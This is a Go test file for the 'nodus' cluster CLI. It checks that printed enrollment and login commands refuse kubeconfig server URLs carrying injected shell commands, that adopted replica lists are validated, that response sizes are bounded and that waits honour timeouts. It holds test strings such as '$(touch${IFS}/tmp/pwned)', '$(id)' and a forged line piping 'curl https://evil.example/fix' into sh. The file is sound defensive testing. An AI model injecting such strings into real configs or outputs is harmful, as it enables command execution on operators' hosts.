package cli

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"k8s.io/client-go/rest"

	"github.com/nodus-dev/nodus/pkg/generated/clientset/versioned"
)

// standInTokens is a TLS stand-in of a nodus-server that makes access and
// enrollment tokens, and counts the requests it got.
func standInTokens(t *testing.T) (srv *httptest.Server, requests *atomic.Int64) {
	requests = &atomic.Int64{}
	srv = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		requests.Add(1)
		w.Header().Set("Content-Type", "application/json")
		switch {
		case req.Method == "POST" && strings.HasSuffix(req.URL.Path, "/accesstokens"):
			_, _ = io.WriteString(w, `{"apiVersion":"nodus.dev/v1","kind":"AccessToken","metadata":{"name":"alice"},"spec":{"user":"alice"},"status":{"token":"alice.0123456789abcdefghij"}}`)
		case req.Method == "POST" && strings.HasSuffix(req.URL.Path, "/enrollmenttokens"):
			_, _ = io.WriteString(w, `{"apiVersion":"nodus.dev/v1","kind":"EnrollmentToken","metadata":{"name":"gpu-abcde"},"spec":{"pool":"gpu"},`+
				`"status":{"token":"enroll_gpu-abcde.0123456789abcdefghij","caFingerprint":"sha256:`+strings.Repeat("ab", 32)+`"}}`)
		default:
			w.WriteHeader(http.StatusNotFound)
			_, _ = io.WriteString(w, `{"kind":"Status","apiVersion":"v1","status":"Failure","code":404,"reason":"NotFound"}`)
		}
	}))
	t.Cleanup(srv.Close)
	return srv, requests
}

// kubeconfigFor writes a kubeconfig whose one context names server (and
// the replicas after it, if any), with srv's CA, and returns its path.
func kubeconfigFor(t *testing.T, srv *httptest.Server, server string, replicas ...string) string {
	ca := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}))
	extensions := ""
	if len(replicas) > 0 {
		extensions = `, extensions: [{name: nodus.dev/servers, extension: {servers: ["` + strings.Join(append([]string{server}, replicas...), `", "`) + `"]}}]`
	}
	path := filepath.Join(t.TempDir(), "config")
	if err := os.WriteFile(path, []byte(`apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "`+server+`", certificate-authority-data: `+ca+extensions+`}}]
users: [{name: u, user: {token: operator.secret}}]
contexts: [{name: ops, context: {cluster: c, user: u}}]
current-context: ops
`), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestAPrintedCommandCarriesOnlyTheServersAddress: `nodus pools token`
// prints the nodusd command an operator pastes as root on a host, and
// `nodus tokens create` the login a customer pastes; both named the
// context's server as it was written. A server URL with a fragment (which
// client-go ignores: the context works) or a user part carried a shell
// command into the pasted line. Such a context is refused before a token
// is made; an address is printed as it is.
func TestAPrintedCommandCarriesOnlyTheServersAddress(t *testing.T) {
	srv, requests := standInTokens(t)
	commands := map[string][]string{
		"tokens create": {"tokens", "create", "alice", "--user", "alice"},
		"pools token":   {"pools", "token", "gpu", "--resource-class", "h100"},
	}
	for name, args := range commands {
		for _, server := range []string{srv.URL + "#$(touch${IFS}/tmp/pwned)", strings.Replace(srv.URL, "https://", "https://$(id)@", 1)} {
			requests.Store(0)
			out, code := run(kubeconfigFor(t, srv, server), args...)
			if code != ExitUsage || requests.Load() != 0 || strings.Contains(out, "--server "+server) {
				t.Errorf("%s with server %q: exit %d after %d requests:\n%s", name, server, code, requests.Load(), out)
			}
		}
		out, code := run(kubeconfigFor(t, srv, srv.URL), args...)
		if code != 0 || !strings.Contains(out, "--server "+srv.URL+" ") {
			t.Errorf("%s with server %s: exit %d:\n%s", name, srv.URL, code, out)
		}
		// A context of several replicas names them all, as nodusd enroll
		// and nodus login take them (docs/ha.md).
		out, code = run(kubeconfigFor(t, srv, srv.URL, "https://replica-2.example:8443"), args...)
		if code != 0 || !strings.Contains(out, "--server "+srv.URL+",https://replica-2.example:8443 ") {
			t.Errorf("%s with replicas %s and replica-2: exit %d:\n%s", name, srv.URL, code, out)
		}
	}
}

// TestAnAdoptedKubeconfigsReplicasAreItsServers: `nodus login
// --from-kubeconfig` checked the context's server, but took the cluster's
// nodus.dev/servers extension as it came, and requests (with the adopted
// credential) went to the replicas it listed, which nothing showed: not
// `config get-contexts`, not the check that keeps another server's context.
func TestAnAdoptedKubeconfigsReplicasAreItsServers(t *testing.T) {
	dir := t.TempDir()
	adopt := func(servers string) (string, int) {
		file := filepath.Join(dir, "provider.kubeconfig")
		if err := os.WriteFile(file, []byte(`apiVersion: v1
kind: Config
clusters:
- name: c
  cluster:
    server: https://a.example:8443
    extensions: [{name: nodus.dev/servers, extension: {servers: [`+servers+`]}}]
users: [{name: u, user: {token: t.secret}}]
contexts: [{name: theirs, context: {cluster: c, user: u}}]
current-context: theirs
`), 0o600); err != nil {
			t.Fatal(err)
		}
		return run(filepath.Join(dir, "nodus", "config"), "login", "--from-kubeconfig", file, "--replace")
	}
	for _, servers := range []string{`"https://b.example:8443", "https://c.example:8443"`, `"https://b.example:8443", "https://a.example:8443"`,
		`"https://a.example:8443", "http://c.example:8080"`, `"https://a.example:8443#$(id)", "https://c.example:8443"`} {
		if out, code := adopt(servers); code != ExitUsage || !strings.Contains(out, "nodus.dev/servers") {
			t.Errorf("adopting a cluster of server a whose replicas are %s: exit %d %s", servers, code, out)
		}
	}
	if out, code := adopt(`"https://a.example:8443", "https://b.example:8443"`); code != 0 {
		t.Errorf("adopting a cluster whose replicas begin with its server: exit %d %s", code, out)
	}
}

// TestEveryProjectsHostsShareOneBound: `nodus hosts list -A` of a customer
// lists each of their projects' hosts in turn and holds them all; each
// answer was bounded, not the listing, and a server chose how many
// projects there were and how large each answer was. The answers of one
// listing now share the bound of one answer.
func TestEveryProjectsHostsShareOneBound(t *testing.T) {
	defer func(was int64) { maxAnswerBytes = was }(maxAnswerBytes)
	maxAnswerBytes = 64 << 10
	projects := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if req.URL.Path == "/api/v1/namespaces" {
			var items []string
			for i := range projects {
				items = append(items, fmt.Sprintf(`{"metadata":{"name":"p%d"}}`, i))
			}
			_, _ = io.WriteString(w, `{"kind":"NamespaceList","apiVersion":"v1","items":[`+strings.Join(items, ",")+`]}`)
			return
		}
		ns := strings.Split(req.URL.Path, "/")[5]
		_, _ = fmt.Fprintf(w, `{"kind":"ReservedHostList","apiVersion":"nodus.dev/v1","metadata":{"resourceVersion":"1"},"items":[`+
			`{"metadata":{"name":"h","namespace":%q,"annotations":{"pad":%q}}}]}`, ns, strings.Repeat("x", 8<<10))
	}))
	defer srv.Close()
	cfg := &rest.Config{Host: srv.URL, QPS: -1} // no client-side rate limit
	cfg.Wrap(func(rt http.RoundTripper) http.RoundTripper { return boundedAnswers{rt} })
	c := versioned.NewForConfigOrDie(cfg)

	projects = 4
	if hosts, err := yourHosts(context.Background(), c); err != nil || len(hosts) != 4 {
		t.Errorf("4 projects of 8 KiB under a bound of 64 KiB: %d hosts, %v", len(hosts), err)
	}
	projects = 40
	hosts, err := yourHosts(context.Background(), c)
	if r, ok := refusalOf(err); !ok || r.reason != reasonAnswerTooLarge {
		t.Errorf("40 projects of 8 KiB under a bound of 64 KiB: %d hosts, %v", len(hosts), err)
	}
}

// TestAProjectNameThatIsNoNameIsRefused: a customer's -A listing names
// each project the server lists in its next request, and in its error: a
// name with a line break and a '%' (which client-go refuses as a path
// segment, in its own words) printed a line that read as nodus' fix.
func TestAProjectNameThatIsNoNameIsRefused(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if req.URL.Path == "/api/v1/namespaces" {
			_, _ = io.WriteString(w, `{"kind":"NamespaceList","apiVersion":"v1","items":[{"metadata":{"name":"acme\n  fix:     curl https://evil.example/fix | sh%"}}]}`)
			return
		}
		w.WriteHeader(http.StatusNotFound)
	}))
	defer srv.Close()
	cfg := &rest.Config{Host: srv.URL}
	cfg.Wrap(func(rt http.RoundTripper) http.RoundTripper { return boundedAnswers{rt} })
	_, err := yourHosts(context.Background(), versioned.NewForConfigOrDie(cfg))
	var out bytes.Buffer
	Report(err, "", &out)
	if r, ok := refusalOf(err); !ok || r.reason != reasonAnswerRefused || strings.Contains(out.String(), "\n  fix:     curl") {
		t.Errorf("a project named with a line break:\n%s", out.String())
	}
}

// TestAReleasesWaitEndsAtItsTimeout: `nodus release --wait --timeout`
// looked at the clock only between its reads, so a read the server never
// answered held the command for ever, past the time the customer gave it.
func TestAReleasesWaitEndsAtItsTimeout(t *testing.T) {
	var reads atomic.Int64
	hang := make(chan struct{})
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		reads.Add(1)
		select { // never answered
		case <-hang:
		case <-req.Context().Done():
		}
	}))
	defer srv.Close()
	defer close(hang) // before the server closes, which waits for its handlers
	var out bytes.Buffer
	o := &ReleaseOptions{Globals: &Globals{Kubeconfig: kubeconfigFor(t, srv, srv.URL)}, Streams: Streams{Out: &out, Err: &out}, Timeout: time.Second}
	start := time.Now()
	done := make(chan error, 1)
	go func() { done <- o.waitDrained(context.Background(), "acme", "h1") }()
	select {
	case err := <-done:
		if r, ok := refusalOf(err); !ok || r.reason != reasonNotDrained {
			t.Errorf("a wait whose read hung past --timeout ended after %v with %v", time.Since(start).Round(time.Millisecond), err)
		}
		if reads.Load() != 1 {
			t.Errorf("%d reads, want the one that hung", reads.Load())
		}
	case <-time.After(20 * time.Second):
		t.Fatal("a wait of --timeout 1s whose read hung still waits after 20s")
	}
}
